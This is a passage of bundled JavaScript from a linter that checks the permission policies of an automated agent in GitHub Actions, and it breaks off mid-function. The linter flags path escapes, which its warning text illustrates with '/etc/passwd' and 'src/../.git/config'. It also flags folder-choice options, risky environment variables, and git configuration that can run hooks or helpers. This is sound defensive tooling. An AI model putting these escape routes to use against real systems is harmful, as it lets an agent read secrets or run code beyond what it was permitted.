export const id = 5158;
export const ids = [5158, 3054];
export const modules = {
	17768: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
		__webpack_require__.d(__webpack_exports__, {
			AZ: () => events,
			OE: () => lintWhen,
			wM: () => isForTrustedEvents
		});
		var _nearest_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(42037), _match_conditions_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(55635), _policy_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(8157), _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(33492), _trusted_events_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(59292), _warning_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(83453);
		let heads = {
			refs: ["refs/heads/"],
			mayHavePullRequest: !1
		}, headsOrTags = {
			refs: ["refs/heads/", "refs/tags/"],
			mayHavePullRequest: !1
		}, pullRequestRefs = {
			refs: ["refs/pull/"],
			mayHavePullRequest: !0
		}, headsWithPullRequest = {
			refs: ["refs/heads/"],
			mayHavePullRequest: !0
		}, events = new Map([
			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("pull_request pull_request_review pull_request_review_comment", pullRequestRefs),
			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("pull_request_target issue_comment issues workflow_run check_run check_suite", headsWithPullRequest),
			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("push create deployment deployment_status workflow_dispatch workflow_call status", headsOrTags),
			["release", {
				refs: ["refs/tags/"],
				mayHavePullRequest: !1
			}],
			...(0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_0__.u)("branch_protection_rule delete discussion discussion_comment fork gollum image_version label merge_group milestone page_build project project_card project_column public registry_package repository_dispatch schedule watch", heads)
		]);
		function isForTrustedEvents(when) {
			return (when.find(({ key }) => key === "event")?.matcher.test)?.listed?.every((value) => _trusted_events_js__WEBPACK_IMPORTED_MODULE_1__.B.has(String(value))) === !0;
		}
		function lintWhen(policy) {
			let { guards, rules, questions, changes = [] } = policy, entries = (0, _policy_js__WEBPACK_IMPORTED_MODULE_2__.Rq)(policy);
			return [
				...entries.flatMap(lintEvents),
				...entries.flatMap(lintContradictions),
				...guards.flatMap((guard) => lintUnknowns(guard, "guard")),
				...changes.filter(({ verb }) => verb !== "allow").flatMap((entry) => lintUnknowns(entry, "entry")),
				...[...rules, ...questions].flatMap(lintLabels)
			];
		}
		function lintEvents(entry) {
			let condition = entry.when.find((each) => each.key === "event");
			if (condition === void 0) return [];
			let { test } = condition.matcher, inner = test.type === "not" ? test.test : test;
			return inner.listed === void 0 ? [...events.keys(), "unknown"].some((event) => (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_3__.cK)(condition.matcher, event, "when")) ? [] : [(0, _warning_js__WEBPACK_IMPORTED_MODULE_4__.R8)(condition.at, "unknown-event", `No GitHub event matches "event" of "${entry.id}".`)] : inner.listed.filter((value) => typeof value == "string" && value !== "unknown" && !events.has(value)).map((value) => (0, _warning_js__WEBPACK_IMPORTED_MODULE_4__.R8)(condition.at, "unknown-event", describeUnknownEvent(String(value))));
		}
		function describeUnknownEvent(event) {
			let near = (0, _nearest_js__WEBPACK_IMPORTED_MODULE_5__.q)(event, [...events.keys()]);
			return `GitHub has no event "${event}".${near === void 0 ? "" : ` Did you mean "${near}"?`}`;
		}
		function lintContradictions(entry) {
			let event = entry.when.find((each) => each.key === "event"), possible = [...events].filter(([name]) => event === void 0 || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_3__.cK)(event.matcher, name, "when"));
			if (event === void 0 || possible.length === 0 || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_3__.cK)(event.matcher, "unknown", "when")) return [];
			let others = entry.when.filter((each) => each !== event);
			if (possible.some(([, facts]) => others.every((each) => canMeet(each, facts)))) return [];
			let condition = others.find((each) => !possible.some(([, facts]) => canMeet(each, facts))) ?? event, names = possible.slice(0, 4).map(([name]) => name), lack = condition === event ? "meets its other conditions" : `has this "${condition.key}"`, message = `"${entry.id}" never matches: no run for ${names.join(", ")} ${lack}.`;
			return [(0, _warning_js__WEBPACK_IMPORTED_MODULE_4__.R8)(condition.at, "contradictory-when", message)];
		}
		function canMeet({ key, matcher }, facts) {
			return (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_3__.cK)(matcher, "unknown", "when") ? !0 : key === "ref" ? facts.refs.some((beginning) => acceptsBeginning(matcher, beginning)) : key === "base_ref" ? facts.mayHavePullRequest || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_3__.cK)(matcher, "", "when") : key === "draft" || key === "fork" ? facts.mayHavePullRequest || (0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_3__.cK)(matcher, !1, "when") : !0;
		}
		function acceptsBeginning({ test }, beginning) {
			if (test.listed !== void 0) return test.listed.some((value) => typeof value == "string" && value.startsWith(beginning));
			if (test.type !== "glob") return !0;
			let first = test.glob.pieces[0];
			if (typeof first != "object") return !0;
			let hasWildcards = test.glob.pieces.length > 1;
			return first.text.startsWith(beginning) || beginning.startsWith(first.text) && hasWildcards;
		}
		function lintUnknowns(entry, noun) {
			return entry.when.filter((condition) => condition.key !== "event" && !(0, _match_conditions_js__WEBPACK_IMPORTED_MODULE_3__.cK)(condition.matcher, "unknown", "when")).map(({ at, key }) => {
				let message = `The ${noun} "${entry.id}" does not match when "${key}" is not known. Add the word "unknown" to its values.`;
				return (0, _warning_js__WEBPACK_IMPORTED_MODULE_4__.R8)(at, "guard-misses-unknown", message);
			});
		}
		function lintLabels({ id, when }) {
			let message = `"${id}" matches if one label does, even if others don't. Write "labels: { has: \u2026 }" to show that this is intended, or refuse others by a guard.`;
			return when.filter(({ key, matcher }) => key === "labels" && [
				"values",
				"glob",
				"re2"
			].includes(matcher.test.type)).filter(({ matcher }) => matcher.test.listed?.every((value) => value === "unknown") !== !0).map(({ at }) => (0, _warning_js__WEBPACK_IMPORTED_MODULE_4__.R8)(at, "one-label-is-enough", message));
		}
	}),
	68421: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
		__webpack_require__.d(__webpack_exports__, { u: () => lint });
		var change_guarded = __webpack_require__(2244), permission_policy = __webpack_require__(8157), position = __webpack_require__(35032), conditions = __webpack_require__(55635), value_tests = __webpack_require__(75952), automaton = __webpack_require__(3487), regex = __webpack_require__(83054), text_glob = __webpack_require__(47141);
		function beginningWith(beginning) {
			return (state, character) => state === "yes" || state + character === beginning ? "yes" : beginning.startsWith(state + character) ? state + character : void 0;
		}
		let climbing = (state, character) => state === "yes" ? state : character === "/" ? state === "" || state === ".." ? "yes" : "/" : character !== "." || state === ".." || state === "name" ? "name" : state === "." ? ".." : ".";
		function takesSome(test, kind) {
			if (test.type === "re2") {
				let automaton = (0, regex.compileAutomaton)(test.pattern);
				return automaton === void 0 || acceptsSome(automaton, kind);
			}
			return test.type === "path" ? test.globs.some((glob) => globAcceptsSome((0, text_glob.SO)(glob), kind)) : test.type === "glob" ? globAcceptsSome(test.glob, kind) : void 0;
		}
		function globAcceptsSome(glob, kind) {
			let steps = [];
			for (let piece of glob?.pieces ?? []) if (piece === "one") steps.push([
				"one of",
				steps.length + 1,
				anyCharacter
			]);
			else if (piece === "run") steps.push([
				"fork",
				steps.length + 2,
				steps.length + 1
			], [
				"one of",
				steps.length,
				anyCharacter
			]);
			else for (let each of piece.text) steps.push([
				"one of",
				steps.length + 1,
				[, ,].fill(each.codePointAt(0))
			]);
			return acceptsSome({
				start: 0,
				steps: [...steps, ["match"]]
			}, kind);
		}
		let anyCharacter = [0, 1114111], ascii = Array.from({ length: 128 }, (_, character) => character);
		function acceptsSome({ start, steps }, read) {
			let seen = new Set(), pending = [[start, ""]];
			for (let visit = pending.pop(); visit !== void 0; visit = pending.pop()) {
				let [index, state] = visit, [kind, next, operand] = steps[index] ?? ["fail"];
				if (!(state === void 0 || seen.has(visit.join(" ")))) {
					if (seen.add(visit.join(" ")), kind === "match" && state !== "" && read(state, "/") === "yes") return !0;
					if (kind === "one of") {
						let examples = [...ascii.filter((each) => (0, automaton.UO)(operand, each)), operand.at(-1) ?? 0];
						for (let each of examples) pending.push([next, read(state, String.fromCodePoint(each))]);
					}
					kind === "fork" && pending.push([next, state], [operand, state]), (kind === "go" || kind === "edge") && pending.push([next, state]);
				}
			}
			return !1;
		}
		var programs = __webpack_require__(21772), word_list = __webpack_require__(33492), open_ended = __webpack_require__(79092), warning = __webpack_require__(83453);
		function* lintPaths({ id, match }) {
			for (let condition of match) {
				let { key, at, matcher } = condition;
				if (fieldMayClimb(condition)) {
					let message = `"${id}" allows a "${key}" that climbs out of its folder, such as "src/../.git/config". Use "path".`;
					yield (0, warning.R8)(at, "path-may-climb", message);
				}
				for (let { pattern } of (0, value_tests.M3)(matcher.test).filter(commandMayClimb)) {
					let message = `"${id}" allows ${JSON.stringify(pattern)}, also with a path that climbs out of the folder, such as "src/../.git/config" or "/etc/passwd". Write "{path:src/**}" for the word.`;
					yield (0, warning.R8)(at, "path-may-climb", message);
				}
			}
		}
		let pathKey = /(?:path|file|filename|dir|directory|folder|cwd|workdir|target|source|destination)s?(?:\/[0-9]+)?$/iu;
		function fieldMayClimb({ key, matcher }) {
			let { test } = matcher;
			if (!key.startsWith("/") || !(0, value_tests.PJ)(test) || test.type === "path") return !1;
			let text = test.pattern ?? "";
			return text.includes("://") || !pathKey.test(key) && !text.includes("/") ? !1 : takesSome(test, climbing) ?? [
				"src/../.git/config",
				"/etc/x",
				".."
			].some((value) => (0, conditions.cK)(matcher, value, "rule"));
		}
		let filePrograms = (0, word_list.y)("ack ag b2sum base32 base64 bat bzcat cat chmod chown cksum cmp colordiff column comm cp csplit cut diff diff3 dir du egrep expand fd fgrep file find fmt fold git-add grep gunzip gzip head hexdump iconv join jq less ln look ls md5sum mkdir more mv nl nm od paste pr ptx readelf readlink realpath rev rg rm rmdir sed sha1sum sha224sum sha256sum sha384sum sha512sum shasum shred shuf sort split stat strings sum tac tail tar tee touch tree truncate tsort unexpand uniq unlink vdir wc xxd xz xzcat yq zcat zgrep zip zipinfo zless zmore");
		function commandMayClimb({ tokens, isOpen }) {
			let [first, ...words] = tokens, program = (0, open_ended.j9)(first);
			if (program === void 0) return !1;
			let name = (0, programs.CF)(program), isFileProgram = filePrograms.has(name) || filePrograms.has(`${name}-${(0, open_ended.j9)(words[0]) ?? ""}`);
			return isFileProgram && isOpen || words.some((word) => wordMayClimb(word, isFileProgram));
		}
		function wordMayClimb(word, isFileProgram) {
			if ("path" in word || (0, open_ended.j9)(word) !== void 0) return !1;
			let hasText = (text) => word.pieces.some((piece) => typeof piece == "object" && piece.text.includes(text));
			return hasText(" ") || hasText("://") ? !1 : (isFileProgram || hasText("/")) && globAcceptsSome(word, climbing);
		}
		let folderKeys = new Set([
			"/cwd",
			"/workdir",
			"/inside"
		]);
		function* lintCommandFolder(rule, policy) {
			if (rule.placeLimits?.target !== "command" || !acceptsCommands(rule)) return;
			let writerId = findWriter(policy)?.id;
			for (let condition of rule.match) {
				let { key, at, matcher } = condition, takesOtherFolders = folderKeys.has(key) && !isAbsence(condition) && !rule.match.some(pinsRoot);
				if (writerId !== void 0 && takesOtherFolders) {
					let message = `"${rule.id}" lets commands run in folders other than the root, and "${writerId}" lets files be written. A command may then run such a file. Leave "${key}" out, or name one folder that nothing may write to.`;
					yield (0, warning.R8)(at, "command-elsewhere", message);
				}
				for (let { pattern } of writerId === void 0 ? [] : findFolderChoices((0, value_tests.M3)(matcher.test))) {
					let message = `"${rule.id}" allows ${JSON.stringify(pattern)}, which lets a command run in a folder of the intern's choice, and "${writerId}" lets files be written. A command may then run such a file. Name the folder.`;
					yield (0, warning.R8)(at, "command-elsewhere", message);
				}
				if (key === "/env" && !isAbsence(condition)) {
					let message = `"${rule.id}" lets a call set variables for its command, and some make a program run another program (NODE_OPTIONS, PATH). Name each allowed variable with its value, as in "/env/CI".`;
					yield (0, warning.R8)(at, "command-elsewhere", message);
				}
			}
		}
		function findFolderChoices(patterns) {
			let openMoves = patterns.filter(isOpenMove);
			return [...patterns.some((pattern) => !openMoves.includes(pattern) && !readsOnly(pattern)) ? openMoves : [], ...patterns.filter(leavesFolderOptionOpen)];
		}
		function isOpenMove({ tokens: [program, ...words], isOpen }) {
			let name = (0, open_ended.j9)(program);
			return (name === "cd" || name === "pushd") && (isOpen || words.some((word) => (0, open_ended.j9)(word) === void 0));
		}
		function readsOnly({ tokens: [program] }) {
			let name = (0, open_ended.j9)(program);
			return name !== void 0 && (0, open_ended.Bh)(name);
		}
		let folderOptions = new Map([
			["bun", ["--cwd"]],
			["bundle", ["--gemfile"]],
			["cargo", ["-C", "--manifest-path"]],
			["composer", ["-d", "--working-dir"]],
			["go", ["-C"]],
			["gradle", ["-p", "--project-dir"]],
			["mvn", ["-f", "--file"]],
			["npm", ["-C", "--prefix"]],
			["pnpm", ["-C", "--dir"]],
			["poetry", [
				"-C",
				"--directory",
				"-P",
				"--project"
			]],
			["tsc", [
				"-p",
				"--project",
				"-b",
				"--build"
			]],
			["uv", ["--directory", "--project"]],
			["yarn", ["--cwd"]]
		]);
		function leavesFolderOptionOpen({ tokens: [program, ...words], isOpen }) {
			let options = folderOptions.get((0, open_ended.j9)(program) ?? "") ?? [];
			return words.some((word, index) => {
				let text = (0, open_ended.j9)(word);
				if (text === void 0) return options.some((option) => (0, open_ended.pG)(word).startsWith(`${option}=`));
				if (!options.includes(text)) return !1;
				let value = words[index + 1];
				return value === void 0 ? isOpen : (0, open_ended.j9)(value) === void 0;
			});
		}
		function isAbsence({ matcher: { test } }) {
			return test.type === "present" && !test.present;
		}
		function pinsRoot({ key, matcher: { test } }) {
			return key === "/inside" && test.listed?.every((folder) => folder === ".") === !0;
		}
		function findWriter({ rules }) {
			return rules.find((rule) => (0, permission_policy.kG)(rule.verb) && accepts(rule, "command", void 0) && accepts(rule, "tool", "fs.write") && accepts(rule, "operation", "fs.write"));
		}
		function acceptsCommands(rule) {
			return findConditions(rule, "command").every(({ matcher: { test } }) => test.takesMissing !== !0);
		}
		function accepts(rule, field, value) {
			return findConditions(rule, field).every(({ matcher }) => (0, conditions.cK)(matcher, value, "rule"));
		}
		function findConditions({ match }, field) {
			return match.filter(({ key }) => key === field || key === `/${field}`);
		}
		var events = __webpack_require__(17768), words = __webpack_require__(91703);
		function readGitCommand(words) {
			let settings = new Map(), flags = new Set(), at = 0;
			for (; words[at]?.startsWith("-") === !0; at += 1) {
				let word = words[at] ?? "";
				if (word === "-c") {
					at += 1;
					let [name = "", ...value] = (words[at] ?? "").split("=");
					settings.set(name.toLowerCase(), value.join("="));
				} else flags.add(word);
			}
			let [subcommand, ...args] = words.slice(at);
			return {
				settings,
				flags,
				subcommand,
				args,
				options: takeUntil(args, "--", "--end-of-options").filter((word) => word?.startsWith("-") !== !1)
			};
		}
		let helpers = {
			pager: {
				name: "a pager (core.pager)",
				preventedBy: { globalOption: "--no-pager" }
			},
			fetch: {
				name: "a fetch of objects that are missing (core.sshCommand)",
				preventedBy: { globalOption: "--no-lazy-fetch" }
			},
			fsmonitor: {
				name: "a file monitor (core.fsmonitor)",
				preventedBy: { globalOption: "-c core.fsmonitor=false" }
			},
			hooks: {
				name: "hooks (core.hooksPath)",
				preventedBy: { globalOption: "-c core.hooksPath=/dev/null" }
			},
			external: {
				name: "an external diff (diff.external)",
				preventedBy: { option: "--no-ext-diff" }
			},
			textconv: {
				name: "a text conversion (diff.NAME.textconv)",
				preventedBy: { option: "--no-textconv" }
			},
			signature: {
				name: "a signature check (gpg.program)",
				preventedBy: { option: "--no-show-signature" }
			},
			format: {
				name: "a signature check by a format (format.pretty)",
				preventedBy: { option: "--pretty=medium" }
			},
			submodule: {
				name: "an external diff of a submodule (diff.submodule)",
				preventedBy: { option: "--submodule=short" }
			},
			merge: {
				name: "a merge driver (log.diffMerges)",
				preventedBy: { globalOption: "-c log.diffMerges=separate" }
			},
			sorting: {
				name: "a signature check by a key to sort by (branch.sort)",
				preventedBy: { option: "--no-sort" }
			},
			namesake: {
				name: "filters, if a file has the name of the compared commits",
				preventedBy: { ending: "--" }
			},
			filters: {
				name: "filters (filter.NAME.clean)",
				preventedBy: void 0
			},
			others: {
				name: "hooks, filters, aliases and helpers for editing and fetching",
				preventedBy: void 0
			}
		}, usual = [
			"pager",
			"fetch",
			"fsmonitor"
		], usualWithIndex = [...usual, "hooks"], bySubcommand = new Map([
			...(0, word_list.u)("cat-file for-each-ref ls-tree merge-base name-rev reflog rev-list shortlog show-ref", usual),
			...(0, word_list.u)("describe grep ls-files", usualWithIndex),
			...(0, word_list.u)("branch tag", [...usual, "sorting"]),
			...(0, word_list.u)("log show", [
				...usual,
				"textconv",
				"external",
				"submodule",
				"signature",
				"format"
			]),
			["status", [...usualWithIndex, "filters"]],
			["diff", [
				...usualWithIndex,
				"external",
				"textconv",
				"submodule",
				"namesake",
				"filters"
			]],
			["blame", [
				...usualWithIndex,
				"textconv",
				"filters"
			]],
			...(0, word_list.u)("remote var", ["pager"]),
			["rev-parse", ["fetch", "fsmonitor"]],
			["version", []]
		]), byOption = new Map([
			...(0, word_list.u)("cat-file grep", {
				option: /^--textconv$/u,
				helper: "textconv"
			}),
			["ls-files", {
				option: /^(?:-[a-zA-Z]*m[a-zA-Z]*|--modified|--eol)$/u,
				helper: "filters"
			}],
			["describe", {
				option: /^--dirty(?:=|$)/u,
				helper: "filters"
			}],
			...(0, word_list.u)("log show", {
				option: /^(?:-m|--diff-merges=(?:on|m))$/u,
				helper: "merge"
			})
		]);
		function findHelpers(words) {
			if (words.every((word) => word === "--version")) return [];
			let command = readGitCommand(words), usedByDefault = bySubcommand.get(command.subcommand ?? "");
			return usedByDefault === void 0 || !command.flags.isSubsetOf(knownFlags) || !onlyLists(command) ? [helpers.others] : [...usedByDefault, ...listUsedByOptions(command)].filter((name) => !isOff[name](command)).map((name) => helpers[name]);
		}
		function listUsedByOptions({ subcommand = "", options }) {
			let known = byOption.get(subcommand), usesKnown = options.some((word) => word === void 0 || known?.option.test(word)), usesOthers = options.some((word) => word === void 0 || !isKnownOption(subcommand, word));
			return [...known !== void 0 && usesKnown ? [known.helper] : [], ...usesOthers ? ["others"] : []];
		}
		let isOff = {
			pager: ({ flags }) => flags.has("--no-pager") || flags.has("-P"),
			fetch: ({ flags }) => flags.has("--no-lazy-fetch"),
			fsmonitor: (command) => /^(?:false|off|no|0|)$/iu.test(command.settings.get("core.fsmonitor") ?? "unset") || !mayReadIndex(command),
			hooks: ({ settings }) => settings.get("core.hookspath") === "/dev/null",
			external: (command) => showsNoPatch(command) || isSwitchedOff(command, "--ext-diff", "--no-ext-diff") || command.subcommand !== "diff" && !command.options.includes("--ext-diff"),
			textconv: (command) => showsNoPatch(command) || isSwitchedOff(command, "--textconv", "--no-textconv"),
			signature: (command) => isSwitchedOff(command, "--show-signature", "--no-show-signature"),
			format: ({ options }) => knownFormat.test(findLastMatch(options, formatOption)),
			submodule: (command) => showsNoPatch(command) || /^--submodule=(?:short|log)$/u.test(findLastMatch(command.options, submoduleOption)),
			merge: ({ settings }) => /^(?:first-parent|separate)$/u.test(settings.get("log.diffmerges") ?? ""),
			sorting: ({ options }) => options.includes("--no-sort"),
			namesake: (command) => comparesIndex(command) || command.args.includes("--") || !comparesCommits(command),
			filters: (command) => command.subcommand === "diff" && (comparesIndex(command) || comparesCommits(command)),
			others: () => !1
		};
		function isSwitchedOff({ options }, on, off) {
			return options.lastIndexOf(off) > options.lastIndexOf(on);
		}
		function findLastMatch(options, pattern) {
			return options.findLast((word) => pattern.test(word ?? "")) ?? "";
		}
		let indexWord = /^\{path:[*?:]|(?:^|[.^]):|^--(?:batch.*|indexed-objects|merge|shared-index-path|stdin)$/u;
		function mayReadIndex({ subcommand = "", args }) {
			return subcommand === "show" || bySubcommand.get(subcommand)?.includes("hooks") === !0 || takeUntil(args, "--").some((word) => word === void 0 || indexWord.test(word) || subcommand === "log" && word.startsWith("-") && !walkOption.test(word));
		}
		let walkOption = /^--(?:abbrev-commit|all|author=.*|cached|date=.*|decorate|first-parent|format=.*|graph|max-count=.*|merges|no-color|no-ext-diff|no-merges|no-patch|no-show-signature|no-textconv|oneline|pretty=.*|reverse|since=.*|staged|submodule=.*|until=.*)$|^-(?:[0-9]+|n[0-9]*|s)$/u, summaryOption = /^--(?:name-only|name-status|no-patch|numstat|shortstat|stat|summary)$|^-s$/u;
		function showsNoPatch({ subcommand, options }) {
			let addsNoPatch = (word = "") => walkOption.test(word) || summaryOption.test(word) || word === "--follow";
			return options.every(addsNoPatch) ? subcommand === "log" || (subcommand === "diff" || subcommand === "show") && options.some((word) => summaryOption.test(word ?? "")) : !1;
		}
		function comparesIndex({ options }) {
			return options.includes("--cached") || options.includes("--staged");
		}
		let commitRange = /^(?!-).*[^./]\.\.\.?[^./]/u;
		function comparesCommits({ args }) {
			let words = takeUntil(args, "--");
			return words.every((word) => word !== void 0) && words.some((word) => commitRange.test(word));
		}
		function takeUntil(args, ...ends) {
			let end = args.findIndex((word) => word !== void 0 && ends.includes(word));
			return end === -1 ? args : args.slice(0, end);
		}
		let knownFlags = (0, word_list.y)("--no-pager -P --no-lazy-fetch --no-optional-locks --no-replace-objects --no-advice --literal-pathspecs --glob-pathspecs --noglob-pathspecs --icase-pathspecs"), listings = new Map([
			["branch", listingRefs("-[arvil]+|--(?:all|remotes|verbose|show-current)")],
			["tag", listingRefs("-[il]+|-n[0-9]*")],
			["remote", { options: /^(?:-v|--verbose)$/u }],
			["reflog", { options: /^(?:-[0-9]+|-n[0-9]*|--(?:oneline|all|date=.*))$/u }]
		]);
		function listingRefs(forms) {
			return {
				options: RegExp(`^(?:${forms}|--(?:list|ignore-case|no-sort|(?:no-)?(?:color|column|contains|merged)|points-at|(?:sort|format)=(?!.*signature).*))$`, "u"),
				operandOptions: /^(?:-l|-n[0-9]*|--(?:list|(?:no-)?(?:contains|merged)|points-at))$/u
			};
		}
		function onlyLists({ subcommand = "", args }) {
			let listing = listings.get(subcommand);
			if (listing === void 0) return !0;
			let words = args.filter((word) => word !== void 0);
			if (words.length < args.length) return !1;
			let options = words.filter((word) => word.startsWith("-"));
			return options.every((option) => listing.options.test(option)) ? options.length === words.length || options.some((option) => listing.operandOptions?.test(option)) : !1;
		}
		let plainOptions = (0, word_list.y)("abbrev abbrev-commit abbrev-ref after all always ancestry-path author batch batch-all-objects batch-check before binary boundary branch branches buffer cached check cherry cherry-mark cherry-pick color color-words column combined-all-paths committer compact-summary contains context count date date-order decorate deleted diff-algorithm diff-filter dirty email eol error-unmatch exact-match exclude exclude-standard exit-code ext-diff extended-regexp files-with-matches files-without-match find-copies find-renames first-parent fixed-strings follow full-index full-name full-tree function-context git-dir graph grep heading heads histogram ignore-all-space ignore-blank-lines ignore-case ignore-space-change ignored indexed-objects invert-grep invert-match is-ancestor is-inside-work-tree left-right line-number line-porcelain local-refs long match max-count max-depth merge merge-base merged merges minimal modified name-only name-status null numbered numstat object-only objects octopus others patch patch-with-stat patience perl-regexp points-at porcelain quiet raw recurse-submodules refs regexp-ignore-case relative remotes renames reverse root short shortstat show-cdup show-prefix show-signature show-toplevel since skip sort source sq stage staged stat stdin submodule summary symbolic symbolic-full-name tags textconv topo-order unified unmerged until untracked untracked-files verify walk word-diff word-regexp"), knownFormat = /^--(?:oneline|pretty|(?:format|pretty)=(?:(?:oneline|short|medium|full|fuller|reference|email|mboxrd|raw)|(?!.*%[-+ ]?G)(?:t?format:.*|.*%.*)))$/su, formatOption = /^--(?:oneline$|(?:format|pretty)(?:=|$))/u, submoduleOption = /^--submodule(?:=|$)/u, signatureOption = /^--(?:no-)?show-signature$/u, mergesOption = /^--diff-merges=(?:on|m|off|none|1|first-parent|separate|c|combined|cc|dense-combined)$|^--no-diff-merges$/u;
		function isKnownOption(subcommand, option) {
			if (listings.has(subcommand)) return !0;
			let isFormat = formatOption.test(option);
			return isFormat && (subcommand === "log" || subcommand === "show") ? !0 : option.includes("signature") ? signatureOption.test(option) : isFormat ? knownFormat.test(option) : option.startsWith("--") ? mergesOption.test(option) || plainOptions.has(option.replace(/^--(?:no-)?|=.*/gsu, "")) : !option.includes("O");
		}
		let helperOptions = new Set([
			"--ext-diff",
			"--textconv",
			"--show-signature"
		]);
		function writeSafely(text, words, used) {
			let { subcommand, args } = readGitCommand(words), additions = used.flatMap(({ preventedBy }) => preventedBy ?? []);
			if (subcommand === void 0 || additions.length === 0) return;
			let isReplaced = (word) => helperOptions.has(word) || used.includes(helpers.format) && formatOption.test(word) || used.includes(helpers.submodule) && submoduleOption.test(word), kept = text.split(" ").filter((word) => !isReplaced(word)), at = kept.findIndex((word) => word.replaceAll(/['"]/gu, "") === subcommand), globalOptionsAt = at - (words.length - args.length - 1), lastOptionAt = kept.findLastIndex((word) => commitRange.test(word) || word.startsWith("-")), endingAt = Math.max(at, lastOptionAt) + 1;
			return [
				...kept.slice(0, globalOptionsAt),
				...additions.flatMap(({ globalOption }) => globalOption ?? []),
				...kept.slice(globalOptionsAt, at + 1),
				...additions.flatMap(({ option }) => option ?? []),
				...kept.slice(at + 1, endingAt),
				...additions.flatMap(({ ending }) => ending ?? []),
				...kept.slice(endingAt)
			].join(" ");
		}
		function* lintGit(rule, isOpenToForks) {
			if (!excludesOutsiders(rule, isOpenToForks)) for (let condition of rule.match) for (let { text, words } of listCommands(condition)) {
				let args = findGitArguments(words), helpers = findHelpers(args);
				helpers.length > 0 && (yield (0, warning.R8)(condition.at, "git-runs-configuration", writeMessage(rule, text, args, helpers)));
			}
		}
		function excludesOutsiders({ when }, isOpenToForks) {
			if ((0, events.wM)(when)) return !0;
			let permission = when.find(({ key }) => key === "actor.permission");
			return permission === void 0 || isOpenToForks ? !1 : ![
				"none",
				"read",
				"triage",
				"unknown"
			].some((level) => (0, conditions.cK)(permission.matcher, level, "when"));
		}
		let shellFields = new Map([...(0, word_list.u)("command /command", ""), ...(0, word_list.u)("operation /operation", "shell command: ")]);
		function listCommands({ key, matcher: { test } }) {
			if (test.type === "only") return test.patterns.map(toCommand);
			let prefix = shellFields.get(key);
			return test.type !== "values" || prefix === void 0 ? [] : test.listed.filter((value) => typeof value == "string").filter((text) => text.startsWith(prefix)).flatMap((text) => splitCommands(text.slice(prefix.length)));
		}
		function toCommand({ pattern, tokens, isOpen }) {
			let words = tokens.map((token) => (0, open_ended.j9)(token) ?? ("path" in token ? `{path:${token.path}}` : void 0));
			return {
				text: pattern,
				words: isOpen ? [...words, void 0] : words
			};
		}
		function splitCommands(text) {
			let reading = (0, words.u)(text, { isPattern: !1 });
			return "error" in reading ? [] : reading.commands.map((words) => ({
				text: words.map((word) => word.isQuoted ? `'${word.text}'` : word.text).join(" "),
				words: words.map((word) => word.text)
			}));
		}
		function findGitArguments([program, ...args]) {
			if (program === void 0) return [];
			if ((0, programs.nH)(program) === "git") return args;
			if (!(0, programs.v7)(program)) return [];
			let at = args.findIndex((word) => word !== void 0 && (0, programs.nH)(word) === "git");
			return at === -1 ? args.some((word) => /(?:^|[^\w.-])git\s/iu.test(word ?? "")) ? [void 0] : [] : args.slice(at + 1);
		}
		function writeMessage(rule, text, args, helpers) {
			let names = helpers.map(({ name }) => name).join(", "), safeText = writeSafely(text, args, helpers), unstoppable = helpers.filter((helper) => helper.preventedBy === void 0).map(({ name }) => name), remedies = [...safeText === void 0 ? [] : [`Write ${JSON.stringify(safeText)}.`], ...unstoppable.length === 0 ? [] : [`No option stops ${unstoppable.join(", ")}: ${writeLastRemedy(args)}`]];
			return `"${rule.id}" allows ${JSON.stringify(text)} where outsiders may have shaped the checkout, and its configuration can make Git run ${names}. ${remedies.join(" ")}`;
		}
		function writeLastRemedy(args) {
			let remedy = "give the rule \"fork: false\" and an \"actor\" who may write.";
			return args.includes("diff") ? `compare commits ("main...HEAD") or the index ("--cached"), or ${remedy}` : remedy;
		}
		var pattern = __webpack_require__(73036);
		function* lintReach(guards, entries, kind) {
			let earlierEntries = [...guards];
			for (let entry of entries) {
				let why = explainWrongKind(entry, kind) ?? explainCover(entry, earlierEntries, kind);
				why !== void 0 && (yield (0, warning.c$)(entry, "unreachable-rule", `The ${kind} "${entry.id}" never decides: ${why}`)), earlierEntries.push(entry);
			}
		}
		function explainWrongKind({ match }, kind) {
			let matcher = match.find(({ key }) => key === "kind")?.matcher;
			return matcher === void 0 ? void 0 : kind === "rule" ? (0, conditions.cK)(matcher, "permission", "rule") ? void 0 : "rules see only the kind \"permission\". Move it to \"questions\"." : matcher.test.listed?.every((value) => value === "permission") === !0 ? "questions never see the kind \"permission\". Move it to \"rules\"." : void 0;
		}
		function explainCover(entry, earlierEntries, kind) {
			let narrow = kind === "rule" ? {
				...entry,
				match: [...entry.match, permissionOnly]
			} : entry, wide = earlierEntries.find((each) => covers(each, narrow));
			if (wide !== void 0) return `the earlier "${wide.id}" matches everything that it matches. Delete "${entry.id}", or move it above "${wide.id}" unless that is a guard.`;
		}
		let permissionOnly = {
			key: "kind",
			matcher: {
				test: (0, value_tests.zE)(["permission"]),
				missing: !1
			}
		};
		function covers(wide, narrow) {
			return limitsCover(wide.placeLimits, narrow.placeLimits) && wide.when.every((each) => isImplied(each, narrow.when, "when")) && wide.match.every((each) => isAlwaysMet(each) || isImplied(each, narrow.match, "rule"));
		}
		function limitsCover(wide, narrow) {
			if (wide === void 0 || wide.target === "any") return !0;
			if (narrow === void 0 || !narrow.openKeys.every((one) => wide.openKeys.includes(one))) return !1;
			let narrowParts = narrow.parts.includes("folder") ? [...narrow.parts, "outside"] : narrow.parts;
			return wide.parts.every((part) => narrowParts.includes(part));
		}
		function isAlwaysMet({ matcher: { test, missing } }) {
